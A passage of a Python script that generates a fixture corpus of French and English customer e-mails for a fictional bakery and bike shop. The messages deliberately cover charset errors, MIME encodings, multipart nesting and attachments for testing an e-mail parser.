"""Generate the e-mail corpus of "Vélo & Pain" (bakery and bike shop) and its manifest.json.

Run once from anywhere: ``python tests/corpus/email/make_corpus.py``. The output (*.eml and
manifest.json, next to this script) is committed; the script is kept so the corpus can be
re-made or extended. Deterministic: same output on every run.

Every message is written byte by byte (CRLF line endings, as on the wire) so that wrong
charsets, broken MIME and other real-world damage are exactly what the manifest says.
The manifest fields are filled from the same values that build the headers.
"""

from __future__ import annotations

import base64
import binascii
import json
import random
import struct
import zlib
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from email.header import Header
from email.utils import format_datetime, formataddr, parseaddr
from pathlib import Path

HERE = Path(__file__).resolve().parent
US = "contact@velopain.example"
US_NAME = "Vélo & Pain"
SUPPORT = "support@velopain.example"
PARIS_WINTER = timezone(timedelta(hours=1))
PARIS_SUMMER = timezone(timedelta(hours=2))


# --- building blocks ------------------------------------------------------------------------------


def crlf(text: str) -> str:
    """Normalise a Python string's line ends to CRLF."""
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def enc(text: str, charset: str = "utf-8") -> bytes:
    return crlf(text).encode(charset)


def b64(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def qp(text: str, charset: str = "utf-8") -> bytes:
    data = text.replace("\r\n", "\n").encode(charset)
    return binascii.b2a_qp(data, istext=True).replace(b"\n", b"\r\n")


def date(y: int, mo: int, d: int, h: int, mi: int, tz: timezone = PARIS_WINTER) -> str:
    return format_datetime(datetime(y, mo, d, h, mi, 0, tzinfo=tz))


def subject(text: str) -> str:
    """A Subject value: ASCII as is, otherwise UTF-8 encoded-words (folded)."""
    if text.isascii():
        return text
    return Header(text, "utf-8", header_name="Subject").encode(linesep="\r\n")


def q_word(text: str, charset: str = "utf-8") -> str:
    """The encoded text of a Q encoded-word (RFC 2047 4.2)."""
    out = []
    for byte in text.encode(charset):
        if byte == 0x20:
            out.append("_")
        elif chr(byte).isalnum() and byte < 0x80:
            out.append(chr(byte))
        else:
            out.append(f"={byte:02X}")
    return "".join(out)


def addr(name: str | None, address: str) -> str:
    if not name:
        return address
    return formataddr((name, address), charset="utf-8")


def header_block(pairs: Sequence[tuple[str, str | bytes]]) -> bytes:
    out = b""
    for name, value in pairs:
        raw = value if isinstance(value, bytes) else value.encode("ascii")
        out += name.encode("ascii") + b": " + raw + b"\r\n"
    return out


def trace(frm_host: str, to: str, when: str, queue: str) -> list[tuple[str, str | bytes]]:
    """Return-Path/Received/Delivered-To headers of a message that reached our server."""
    to = parseaddr(to)[1]
    return [
        ("Delivered-To", to),
        (
            "Received",
            f"from {frm_host} ({frm_host} [192.0.2.{len(frm_host) % 200 + 10}])\r\n"
            f"\tby mx.velopain.example (Postfix) with ESMTPS id {queue}\r\n"
            f"\tfor <{to}>; {when}",
        ),
        (
            "Authentication-Results",
            f"mx.velopain.example;\r\n\tdkim=pass header.d={frm_host.split('.', 1)[-1]};"
            f"\r\n\tspf=pass smtp.mailfrom={frm_host.split('.', 1)[-1]}",
        ),
    ]


BOUNDARY_COUNTER = [0]


def boundary(tag: str = "b") -> str:
    BOUNDARY_COUNTER[0] += 1
    return f"=_{tag}_{BOUNDARY_COUNTER[0]:04d}_9f3c2a71"


def part(headers: Sequence[tuple[str, str | bytes]], body: bytes) -> bytes:
    return header_block(headers) + b"\r\n" + body


def multipart(bnd: str, parts: list[bytes], preamble: bytes = b"", epilogue: bytes = b"") -> bytes:
    out = preamble
    for p in parts:
        out += b"--" + bnd.encode() + b"\r\n" + p
        if not p.endswith(b"\r\n"):
            out += b"\r\n"
    out += b"--" + bnd.encode() + b"--\r\n" + epilogue
    return out


def text_part(body: str, charset: str = "utf-8", cte: str = "8bit", sub: str = "plain") -> bytes:
    if cte == "quoted-printable":
        payload = qp(body, charset)
    elif cte == "base64":
        payload = b64(crlf(body).encode(charset))
    else:
        payload = enc(body, charset)
    return part(
        [
            ("Content-Type", f"text/{sub}; charset={charset}"),
            ("Content-Transfer-Encoding", cte),
        ],
        payload,
    )


def png(width: int = 16, height: int = 16, seed: int = 1) -> bytes:
    """A small, valid PNG (RGB, a few stripes)."""
    rng = random.Random(seed)
    palette = [bytes(rng.randrange(256) for _ in range(3)) for _ in range(4)]
    rows = b"".join(
        b"\x00" + b"".join(palette[(x // 4 + y // 4) % 4] for x in range(width))
        for y in range(height)
    )

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(rows, 9))
        + chunk(b"IEND", b"")
    )


def pdf(title: str) -> bytes:
    """A tiny one-page PDF (valid enough for viewers) saying ``title``."""
    stream = f"BT /F1 18 Tf 72 720 Td ({title}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n"
    ).encode()
    return out


# --- the manifest ---------------------------------------------------------------------------------


@dataclass
class Entry:
    file: str
    kind: str
    raw: bytes
    thread: str
    sender: str | None
    message_id: str | None
    in_reply_to: str | None = None
    references: list[str] = field(default_factory=list)
    subject_contains: str | None = None
    text_contains: str | None = None
    hostile: bool = False
    outbound: bool = False
    notes: str = ""

    def manifest(self) -> dict[str, object]:
        return {
            "file": self.file,
            "kind": self.kind,
            "message_id": self.message_id,
            "in_reply_to": self.in_reply_to,
            "references": self.references,
            "thread": self.thread,
            "from": self.sender,
            "subject_contains": self.subject_contains,
            "text_contains": self.text_contains,
            "hostile": self.hostile,
            "outbound": self.outbound,
            "notes": self.notes,
        }


ENTRIES: list[Entry] = []


def ids(mid: str | None, irt: str | None, refs: list[str]) -> list[tuple[str, str | bytes]]:
    out: list[tuple[str, str | bytes]] = []
    if mid is not None:
        out.append(("Message-ID", f"<{mid}>"))
    if irt is not None:
        out.append(("In-Reply-To", f"<{irt}>"))
    if refs:
        out.append(("References", "\r\n ".join(f"<{r}>" for r in refs)))
    return out


def mail(
    file: str,
    kind: str,
    *,
    frm: tuple[str | None, str],
    to: str,
    subj: str | None,
    when: str | None,
    mid: str | None,
    content: list[tuple[str, str]],
    body: bytes,
    irt: str | None = None,
    refs: list[str] | None = None,
    thread: str | None = None,
    subject_contains: str | None = None,
    text_contains: str | None,
    hostile: bool = False,
    outbound: bool | None = None,
    extra: list[tuple[str, str | bytes]] | None = None,
    host: str | None = None,
    notes: str = "",
    mime_version: bool = True,
) -> Entry:
    """Build one message from its parts and record its manifest entry."""
    refs = refs or []
    is_out = frm[1] == US if outbound is None else outbound
    headers: list[tuple[str, str | bytes]] = []
    if not is_out:
        sender_host = host or ("mail." + frm[1].split("@", 1)[1])
        headers.append(("Return-Path", f"<{frm[1]}>"))
        queue = f"4T{zlib.crc32(file.encode()):08X}"
        headers += trace(sender_host, to, when or date(2024, 1, 1, 0, 0), queue)
    headers.append(("From", addr(frm[0], frm[1])))
    headers.append(("To", to))
    if subj is not None:
        headers.append(("Subject", subject(subj)))
    if when is not None:
        headers.append(("Date", when))
    headers += ids(mid, irt, refs)
    headers += extra or []
    if mime_version:
        headers.append(("MIME-Version", "1.0"))
    headers += content
    entry = Entry(
        file=file,
        kind=kind,
        raw=header_block(headers) + b"\r\n" + body,
        thread=thread or file.removesuffix(".eml"),
        sender=frm[1].lower(),
        message_id=mid,
        in_reply_to=irt,
        references=refs,
        subject_contains=subject_contains if subject_contains is not None else subj,
        text_contains=text_contains,
        hostile=hostile,
        outbound=is_out,
        notes=notes,
    )
    ENTRIES.append(entry)
    return entry


def simple(
    file: str,
    kind: str,
    text: str,
    *,
    charset: str = "utf-8",
    cte: str = "8bit",
    flowed: bool = False,
    **kw: object,
) -> Entry:
    """A single-part text/plain message."""
    ctype = f"text/plain; charset={charset}" + ("; format=flowed" if flowed else "")
    if cte == "quoted-printable":
        payload = qp(text, charset)
    elif cte == "base64":
        payload = b64(enc(text, charset))
    else:
        payload = enc(text, charset)
    return mail(
        file,
        kind,
        content=[("Content-Type", ctype), ("Content-Transfer-Encoding", cte)],
        body=payload,
        **kw,  # type: ignore[arg-type]
    )


OUT_EXTRA: list[tuple[str, str | bytes]] = [
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Thunderbird/115.8.0"),
    ("Content-Language", "fr"),
]
ME = (US_NAME, US)

SIGNATURE = (
    "\n-- "
    + """
Vélo & Pain — boulangerie & atelier vélo
12 rue des Moulins, 35000 Rennes · 02 99 00 00 00
"""
)


# --- 1. charsets and transfer encodings -----------------------------------------------------------


def charsets() -> None:
    simple(
        "plain-ascii.eml",
        "plain-ascii",
        """Hello,

Do you sell gluten-free bread? My daughter is coeliac and we are visiting
Rennes next week. Also, could we rent two city bikes for the Saturday?

Thanks a lot,
John Smith
""",
        charset="us-ascii",
        cte="7bit",
        frm=("John Smith", "john.smith@example.com"),
        to=US,
        subj="Gluten-free bread and bike rental",
        when=date(2024, 3, 2, 18, 4, timezone(timedelta(hours=0))),
        mid="CAJx7p3Y2bq9r0s-Qk1=fT8n@mail.gmail.com",
        text_contains="Do you sell gluten-free bread?",
        host="mail-lf1-f41.google.com",
        extra=[("X-Mailer", "iPhone Mail (21D61)")],
    )
    simple(
        "utf8-emoji.eml",
        "utf8",
        """Bonjour l'équipe,

Un grand merci pour la réparation express de mon vélo ! 🚲🙏
Le dérailleur passe nickel et les croissants du matin étaient parfaits 🥐😋

À très vite,
Chloé
""",
        frm=("Chloé Petit", "chloe.petit@example.fr"),
        to=US,
        subj="Merci ! 🚲🥐",
        when=date(2024, 3, 4, 8, 31),
        mid="a1b2c3d4-5e6f-4a1b-9c8d-0e1f2a3b4c5d@example.fr",
        subject_contains="Merci ! 🚲",
        text_contains="réparation express de mon vélo ! 🚲",
    )
    simple(
        "iso-8859-1.eml",
        "iso-8859-1",
        """Bonjour,

Je souhaiterais commander trois galettes des rois à la frangipane pour
samedi matin, dont une sans fève s'il vous plaît (ma belle-mère a failli
s'y casser une dent l'an passé).

Agnès Rousseau
""",
        charset="iso-8859-1",
        frm=("Agnès Rousseau", "agnes.rousseau@example.net"),
        to=US,
        subj="Commande de galettes à la frangipane",
        when=date(2024, 1, 3, 10, 2),
        mid="20240103100212.GA4821@example.net",
        text_contains="galettes des rois à la frangipane",
        extra=[("User-Agent", "Mutt/2.2.12 (2023-09-09)")],
        notes="Body in ISO-8859-1 (8bit) as declared; Subject in UTF-8 encoded-words.",
    )
    mail(
        "windows-1252.eml",
        "windows-1252",
        frm=("Paul Lemoine", "p.lemoine@example.com"),
        to=US,
        subj="Devis vélo cargo",
        when=date(2024, 2, 12, 14, 45),
        mid="DB9PR02MB7131A2F0C5E4A6B1D9E3C8A2B1C40@DB9PR02MB7131.eurprd02.prod.outlook.com",
        content=[
            ("Content-Type", 'text/plain; charset="Windows-1252"'),
            ("Content-Transfer-Encoding", "8bit"),
        ],
        body=enc(
            """Bonjour,

Suite à notre échange – c’est d’accord pour le vélo cargo à 2 450 € (œuvre
d’un artisan breton, si j’ai bien compris). Pouvez-vous m’envoyer le devis ?

« Merci d’avance »

Paul Lemoine
""",
            "cp1252",
        ),
        text_contains="c’est d’accord pour le vélo cargo à 2 450 € (œuvre",
        extra=[("X-Mailer", "Microsoft Outlook 16.0")],
        notes="cp1252-only characters: ’ – € œ « » (0x92 0x96 0x80 0x9c 0xab 0xbb).",
    )
    mail(
        "wrong-charset-latin1-as-utf8.eml",
        "wrong-charset-latin1-as-utf8",
        frm=("Gérard Fontaine", "gerard.fontaine@example.fr"),
        to=US,
        subj="Reservation pain de campagne",
        when=date(2024, 2, 20, 7, 58),
        mid="5f0e2d1c.4b3a.29180@example.fr",
        content=[
            ("Content-Type", "text/plain; charset=utf-8"),
            ("Content-Transfer-Encoding", "8bit"),
        ],
        body=enc(
            """Bonjour,

Je voudrais réserver un pain de campagne de 1 kg pour vendredi, bien cuit.
Je passerai vers 18 h après le travail.

Gérard
""",
            "latin-1",
        ),
        text_contains="Je voudrais réserver un pain de campagne",
        notes="Declared utf-8 but the body bytes are ISO-8859-1 (invalid UTF-8).",
    )
    mail(
        "wrong-charset-utf8-as-ascii.eml",
        "wrong-charset-utf8-as-ascii",
        frm=("Léa Moreau", "lea.moreau@example.org"),
        to=US,
        subj="La creme brulee de dimanche",
        when=date(2024, 2, 26, 21, 14),
        mid="lea.20240226211455@example.org",
        content=[
            ("Content-Type", "text/plain; charset=us-ascii"),
            ("Content-Transfer-Encoding", "7bit"),
        ],
        body=enc(
            """Bonsoir,

La crème brûlée de dimanche était délicieuse, est-ce que vous en referez
pour la fête des mères ?

Léa
""",
            "utf-8",
        ),
        text_contains="La crème brûlée de dimanche était délicieuse",
        notes="Declared us-ascii (and 7bit) but the body is UTF-8.",
    )
    mail(
        "missing-charset.eml",
        "missing-charset",
        frm=("Yannick Le Goff", "yannick.legoff@example.bzh"),
        to=US,
        subj="Crevaison",
        when=date(2024, 3, 6, 12, 20),
        mid="20240306122003.7731@example.bzh",
        content=[("Content-Type", "text/plain"), ("Content-Transfer-Encoding", "8bit")],
        body=enc(
            """Salut,

Ma chambre à air a encore crevé près du marché des Lices. Vous êtes ouverts
entre midi et deux pour une réparation rapide ?

Yannick
""",
            "utf-8",
        ),
        text_contains="Ma chambre à air a encore crevé",
        notes="text/plain without charset, 8bit UTF-8 body (the RFC default would be us-ascii).",
    )
    mail(
        "no-mime-headers.eml",
        "no-mime-headers",
        frm=(None, "old.friend@example.net"),
        to=US,
        subj="pain",
        when=date(2024, 1, 15, 9, 0),
        mid="200401150900.AA01234@example.net",
        content=[],
        body=enc("hello\n\nstill baking on sundays? I'll come by at 9.\n\n-- bob\n", "ascii"),
        text_contains="still baking on sundays?",
        mime_version=False,
        notes="No MIME-Version, no Content-Type: plain RFC 822 text.",
    )
    mail(
        "unknown-charset.eml",
        "unknown-charset",
        frm=("Nathalie Roux", "nathalie.roux@example.fr"),
        to=US,
        subj="Atelier enfants",
        when=date(2024, 3, 8, 16, 40),
        mid="0b7e8f9a-unknown-8bit@example.fr",
        content=[
            ("Content-Type", "text/plain; charset=x-unknown-8bit"),
            ("Content-Transfer-Encoding", "8bit"),
        ],
        body=enc(
            """Bonjour,

Mon fils aimerait participer à l'atelier « répare ton vélo » des enfants.
Reste-t-il des places pour mercredi ?

Nathalie
""",
            "utf-8",
        ),
        text_contains="l'atelier « répare ton vélo » des enfants",
        notes="Charset name that no codec knows; the bytes are UTF-8.",
    )
    mail(
        "iso-2022-jp.eml",
        "iso-2022-jp",
        frm=("Kenji Sato", "kenji.sato@example.jp"),
        to=US,
        subj="自転車のレンタルについて",
        when=date(2024, 4, 2, 9, 15, timezone(timedelta(hours=9))),
        mid="20240402091500.3F2A@example.jp",
        content=[
            ("Content-Type", "text/plain; charset=ISO-2022-JP"),
            ("Content-Transfer-Encoding", "7bit"),
        ],
        body=enc(
            """Vélo & Pain 御中

来週の土曜日に自転車を二台レンタルしたいです。
予約は可能でしょうか。

佐藤 健二
""".replace("Vélo & Pain", "Velo & Pain"),
            "iso-2022-jp",
        ),
        subject_contains="自転車",
        text_contains="自転車を二台レンタルしたいです",
        notes="Japanese tourist; 7-bit ISO-2022-JP body; Subject in UTF-8 encoded-words.",
    )
    quoted = (
        b"Bonjour,\r\n"
        b"\r\n"
        b"Mon v=C3=A9lo de course fait un bruit bizarre quand je p=C3=A9dale fort, je=\r\n"
        b" pense qu'il faut changer le p=C3=A9da=\r\n"
        b"lier (ou au moins le boitier). Formule =3D r=C3=A9vision compl=C3=A8te ?\r\n"
        b"\r\n"
        b"Cordialement,\r\n"
        b"Fran=C3=A7ois\r\n"
    )
    mail(
        "quoted-printable.eml",
        "quoted-printable",
        frm=("François Girard", "francois.girard@example.com"),
        to=SUPPORT,
        subj="Bruit au pédalage",
        when=date(2024, 3, 11, 19, 5),
        mid="qp.20240311190512.17@example.com",
        content=[
            ("Content-Type", "text/plain; charset=UTF-8"),
            ("Content-Transfer-Encoding", "quoted-printable"),
        ],
        body=quoted,
        text_contains="il faut changer le pédalier",
        notes="QP soft line breaks, one in the middle of 'pédalier'; '=3D' is '='.",
    )
    simple(
        "base64-body.eml",
        "base64-body",
        """Bonjour,

Pouvez-vous me rappeler au 06 12 34 56 78 ? C'est au sujet de la
commande de 40 viennoiseries pour le séminaire de jeudi.

Merci,
Isabelle Caron
Assistante de direction
""",
        cte="base64",
        frm=("Isabelle Caron", "i.caron@example-corp.fr"),
        to=US,
        subj="Rappel svp – commande séminaire",
        when=date(2024, 3, 12, 11, 27),
        mid="MN2PR11MB4679C0E6A1B2@MN2PR11MB4679.namprd11.prod.outlook.com",
        text_contains="commande de 40 viennoiseries pour le séminaire",
    )
    mail(
        "bare-lf.eml",
        "bare-lf",
        frm=("Hugo Lambert", "hugo.lambert@example.org"),
        to=US,
        subj="Pneus 700x28",
        when=date(2024, 3, 13, 8, 0),
        mid="hugo.lambert.20240313080000@example.org",
        content=[("Content-Type", "text/plain; charset=utf-8")],
        body=b"",
        text_contains="Avez-vous des pneus 700x28 en stock",
        notes="Whole file uses bare LF line endings (as saved by some tools); "
        "an IMAP APPEND through imaplib/imapclient turns them into CRLF.",
    )
    # rewrite the last one with LF only (headers included)
    last = ENTRIES[-1]
    body = "Salut,\n\nAvez-vous des pneus 700x28 en stock ? Des tubeless si possible.\n\nHugo\n"
    last.raw = last.raw.replace(b"\r\n", b"\n") + body.encode()


# --- 2. multipart structure -----------------------------------------------------------------------


def structures() -> None:
    bnd = boundary("alt")
    plain = """Bonjour,

Est-ce que vous proposez des paniers petit-déjeuner livrés à vélo le
dimanche matin ? Ce serait pour l'anniversaire de ma compagne.

Merci !
Maxime
"""
    html = """<div dir="ltr">Bonjour,<div><br></div><div>Est-ce que vous proposez des paniers \
petit-déjeuner livrés à vélo le dimanche matin ? Ce serait pour l'anniversaire \
de ma compagne.</div><div><br></div><div>Merci !</div><div>Maxime</div></div>
"""
    mail(
        "alternative.eml",
        "alternative",
        frm=("Maxime Blanc", "maxime.blanc@example.com"),
        to=US,
        subj="Paniers petit-déjeuner livrés à vélo ?",
        when=date(2024, 3, 14, 22, 12),
        mid="CAHk3mZr9sYw1x2c3v4b5n6m7Q@mail.gmail.com",
        content=[("Content-Type", f'multipart/alternative; boundary="{bnd}"')],
        body=multipart(
            bnd,
            [
                text_part(plain, "UTF-8", "quoted-printable"),
                text_part(html, "UTF-8", "quoted-printable", "html"),
            ],
        ),
        host="mail-wr1-f54.google.com",
        text_contains="paniers petit-déjeuner livrés à vélo",
    )
    form_html = """<html><body>
<h2>Nouveau message depuis le formulaire de contact</h2>
<table>
<tr><td><b>Nom</b></td><td>Hélène Garnier</td></tr>
<tr><td><b>Email</b></td><td>helene.garnier@example.fr</td></tr>
<tr><td><b>Message</b></td><td>Je souhaite louer deux vélos électriques pour
le week-end de Pâques.</td></tr>
</table>
</body></html>
"""
    mail(
        "html-only-reply-to.eml",
        "reply-to",
        frm=("Formulaire velopain.example", "noreply@velopain.example"),
        to=US,
        subj="[Site] Nouveau message de Hélène Garnier",
        when=date(2024, 3, 15, 13, 3),
        mid="form-8812.1710504180@velopain.example",
        content=[
            ("Content-Type", "text/html; charset=UTF-8"),
            ("Content-Transfer-Encoding", "8bit"),
        ],
        body=enc(form_html),
        extra=[("Reply-To", addr("Hélène Garnier", "helene.garnier@example.fr"))],
        outbound=False,
        host="web1.velopain.example",
        subject_contains="Nouveau message de Hélène Garnier",
        text_contains="Je souhaite louer deux vélos électriques",
        notes="Website contact form: HTML only; From is the site, Reply-To is the customer.",
    )
    simple(
        "reply-to-other-address.eml",
        "reply-to",
        """Bonjour,

Merci de répondre plutôt sur mon adresse personnelle (Reply-To) : je n'ai
plus accès à ma boîte du travail à partir de vendredi.

Question : faites-vous encore le pain au levain de seigle ?

Bastien Faure
""",
        frm=("Bastien Faure", "bastien.faure@example-corp.fr"),
        to=US,
        subj="Pain au levain de seigle",
        when=date(2024, 3, 18, 9, 41),
        mid="bf.0318.0941@example-corp.fr",
        extra=[("Reply-To", "bastien.faure.perso@example.net")],
        text_contains="faites-vous encore le pain au levain de seigle",
    )
    mail(
        "html-only.eml",
        "html-only",
        frm=("La Roue Libre", "bonjour@laroue-libre.example"),
        to=US,
        subj="Partenariat : balade gourmande à vélo",
        when=date(2024, 3, 19, 10, 0),
        mid="lrl-2024-03-19-partenariat@laroue-libre.example",
        content=[
            ("Content-Type", "text/html; charset=utf-8"),
            ("Content-Transfer-Encoding", "quoted-printable"),
        ],
        body=qp(
            """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Partenariat</title>
<style>p { font-family: Georgia, serif; }</style></head>
<body>
<p>Bonjour à toute l'équipe,</p>
<p>Nous organisons une <b>balade gourmande à vélo</b> le 21 avril et aimerions
faire une halte chez vous pour une dégustation de kouign-amann.</p>
<ul><li>40 participants</li><li>arrivée vers 10 h 30</li></ul>
<p>Bien à vous,<br>L'association La Roue Libre</p>
</body></html>
"""
        ),
        text_contains="faire une halte chez vous pour une dégustation de kouign-amann",
    )
    mail(
        "html-entities.eml",
        "html-entities",
        frm=("Réservations Gîte du Lac", "reservations@gite-du-lac.example"),
        to=US,
        subj="Réservation confirmée",
        when=date(2024, 3, 20, 17, 20),
        mid="resa-55102@gite-du-lac.example",
        content=[
            ("Content-Type", "text/html; charset=us-ascii"),
            ("Content-Transfer-Encoding", "7bit"),
        ],
        body=enc(
            """<html><body>
<p>Bonjour,</p>
<p>Votre r&eacute;servation de 12&nbsp;v&eacute;los est confirm&#233;e pour le
s&#xE9;minaire du 3&nbsp;mai.</p>
<p>Merci et &agrave; bient&ocirc;t&nbsp;!</p>
</body></html>
"""
        ),
        text_contains="est confirmée pour le",
        notes="Pure ASCII HTML: every accent is a named, decimal or hex entity.",
    )
    mail(
        "html-meta-charset.eml",
        "html-meta-charset",
        frm=("Mairie de Rennes - Evenements", "evenements@mairie.example"),
        to=US,
        subj="Marché de printemps : inscription des exposants",
        when=date(2024, 3, 21, 9, 30),
        mid="mairie.evt.20240321093000@mairie.example",
        content=[("Content-Type", "text/html"), ("Content-Transfer-Encoding", "8bit")],
        body=enc(
            """<html><head>
<meta http-equiv="Content-Type" content="text/html; charset=windows-1252">
</head><body>
<p>Madame, Monsieur,</p>
<p>Les inscriptions au marché de printemps sont ouvertes jusqu’au 5 avril.
Emplacement : 15 € la journée.</p>
</body></html>
""",
            "cp1252",
        ),
        text_contains="Les inscriptions au marché de printemps sont ouvertes jusqu’au 5 avril",
        notes="No charset in Content-Type; the HTML <meta> says windows-1252 (bytes are cp1252).",
    )

    # attachments
    bnd = boundary("mix")
    photo = png(24, 24, seed=7)
    mail(
        "attachment-png.eml",
        "attachment",
        frm=("Sophie Martin", "sophie.martin@example.fr"),
        to=SUPPORT,
        subj="Photo de la roue voilée",
        when=date(2024, 3, 22, 18, 2),
        mid="6E3B0A2C-1D4F-4B8E-9A7C-2F5D8E1B3C4A@example.fr",
        content=[("Content-Type", f'multipart/mixed; boundary="{bnd}"')],
        body=multipart(
            bnd,
            [
                text_part(
                    "Bonjour,\n\nVoici la photo de ma roue arrière voilée, comme promis.\n"
                    "Est-ce réparable ?\n\nSophie\n",
                    "utf-8",
                    "quoted-printable",
                ),
                part(
                    [
                        ("Content-Type", 'image/png; name="roue.png"'),
                        ("Content-Disposition", 'attachment; filename="roue.png"'),
                        ("Content-Transfer-Encoding", "base64"),
                    ],
                    b64(photo),
                ),
            ],
            preamble=b"This is a multi-part message in MIME format.\r\n",
        ),
        extra=[("X-Mailer", "Apple Mail (2.3774.400.31)")],
        text_contains="Voici la photo de ma roue arrière voilée",
    )
    bnd = boundary("mix")
    mail(
        "attachment-pdf-rfc2231.eml",
        "attachment",
        frm=("Moulin de la Vallée", "compta@moulin-vallee.example"),
        to=US,
        subj="Facture n° F-2024-0311",
        when=date(2024, 3, 25, 8, 15),
        mid="facture.F-2024-0311@moulin-vallee.example",
        content=[("Content-Type", f'multipart/mixed; boundary="{bnd}"')],
        body=multipart(
            bnd,
            [
                text_part(
                    "Bonjour,\n\nVeuillez trouver ci-joint la facture de mars "
                    "(farine T65 bio, 300 kg).\nRèglement à 30 jours.\n\n"
                    "Le service comptabilité\n",
                    "iso-8859-1",
                    "quoted-printable",
                ),
                part(
                    [
                        (
                            "Content-Type",
                            "application/pdf; name*=UTF-8''facture%20mars%20%C3%A9t%C3%A9.pdf",
                        ),
                        (
                            "Content-Disposition",
                            "attachment;\r\n filename*=UTF-8''facture%20mars%20%C3%A9t%C3%A9.pdf",
                        ),
                        ("Content-Transfer-Encoding", "base64"),
                    ],
                    b64(pdf("Facture F-2024-0311 - Moulin de la Vallee")),
                ),
                part(
                    [
                        ("Content-Type", 'text/csv; name="=?UTF-8?Q?d=C3=A9tail.csv?="'),
                        (
                            "Content-Disposition",
                            'attachment; filename="=?UTF-8?Q?d=C3=A9tail.csv?="',
                        ),
                        ("Content-Transfer-Encoding", "quoted-printable"),
                    ],
                    qp("article;quantité;prix\nT65 bio;300;405,00\n"),
                ),
            ],
        ),
        text_contains="la facture de mars (farine T65 bio, 300 kg)",
        notes="PDF name in RFC 2231 (filename*=UTF-8''...), CSV name as an encoded-word.",
    )
    bnd_rel = boundary("rel")
    bnd_alt = boundary("alt")
    logo = png(32, 12, seed=3)
    mail(
        "inline-image.eml",
        "inline-image",
        frm=("CycloPièces Distribution", "news@cyclopieces.example"),
        to=US,
        subj="Nouveautés printemps : pneus et chambres à air",
        when=date(2024, 3, 26, 7, 0),
        mid="cp-news-2024-03-26.77121@cyclopieces.example",
        content=[("Content-Type", f'multipart/alternative; boundary="{bnd_alt}"')],
        body=multipart(
            bnd_alt,
            [
                text_part(
                    "Découvrez nos nouveautés de printemps : pneus renforcés, "
                    "chambres à air et rustines.\n",
                    "utf-8",
                    "quoted-printable",
                ),
                part(
                    [
                        (
                            "Content-Type",
                            f'multipart/related; boundary="{bnd_rel}"; type="text/html"',
                        )
                    ],
                    multipart(
                        bnd_rel,
                        [
                            text_part(
                                '<html><body><img src="cid:logo.7f3a@cyclopieces.example" '
                                'alt="CycloPièces" width="64">\n<p>Découvrez nos nouveautés de '
                                "printemps : pneus renforcés, chambres à air et rustines.</p>\n"
                                '<img src="cid:missing.part@cyclopieces.example">\n'
                                "</body></html>\n",
                                "utf-8",
                                "quoted-printable",
                                "html",
                            ),
                            part(
                                [
                                    ("Content-Type", "image/png"),
                                    ("Content-ID", "<logo.7f3a@cyclopieces.example>"),
                                    ("Content-Disposition", 'inline; filename="logo.png"'),
                                    ("Content-Transfer-Encoding", "base64"),
                                ],
                                b64(logo),
                            ),
                        ],
                    ),
                ),
            ],
        ),
        extra=[
            ("List-Unsubscribe", "<https://cyclopieces.example/unsubscribe?u=velopain>"),
            ("Precedence", "bulk"),
        ],
        text_contains="pneus renforcés, chambres à air et rustines",
        notes="multipart/related with a cid: image; one cid: reference has no part.",
    )
    # Apple Mail: mixed > alternative > (plain, related > (html, image)), + attachment
    b_mix, b_alt, b_rel = boundary("mix"), boundary("alt"), boundary("rel")
    html = (
        "<html><body><div>Bonjour,</div><div><br></div><div>Le vélo de ma fille est "
        'trop petit : pouvez-vous le reprendre ? Photo ci-dessous.</div><img src="cid:IMG_0042">'
        "<div>Claire</div></body></html>\n"
    )
    mail(
        "nested-multipart.eml",
        "nested-multipart",
        frm=("Claire Dubois", "claire.dubois@example.fr"),
        to=US,
        subj="Reprise vélo enfant",
        when=date(2024, 3, 27, 20, 48),
        mid="8A9B0C1D-2E3F-4051-A6B7-C8D9E0F1A2B3@example.fr",
        content=[("Content-Type", f'multipart/mixed; boundary="{b_mix}"')],
        body=multipart(
            b_mix,
            [
                part(
                    [("Content-Type", f'multipart/alternative; boundary="{b_alt}"')],
                    multipart(
                        b_alt,
                        [
                            text_part(
                                "Bonjour,\n\nLe vélo de ma fille est trop petit : pouvez-vous "
                                "le reprendre ? Photo ci-dessous.\n\nClaire\n",
                                "utf-8",
                                "quoted-printable",
                            ),
                            part(
                                [("Content-Type", f'multipart/related; boundary="{b_rel}"')],
                                multipart(
                                    b_rel,
                                    [
                                        text_part(html, "utf-8", "quoted-printable", "html"),
                                        part(
                                            [
                                                ("Content-Type", 'image/png; name="IMG_0042.png"'),
                                                ("Content-ID", "<IMG_0042>"),
                                                ("Content-Disposition", "inline"),
                                                ("Content-Transfer-Encoding", "base64"),
                                            ],
                                            b64(png(20, 20, seed=11)),
                                        ),
                                    ],
                                ),
                            ),
                        ],
                    ),
                ),
                part(
                    [
                        ("Content-Type", 'application/pdf; name="facture-achat-2021.pdf"'),
                        ("Content-Disposition", 'attachment; filename="facture-achat-2021.pdf"'),
                        ("Content-Transfer-Encoding", "base64"),
                    ],
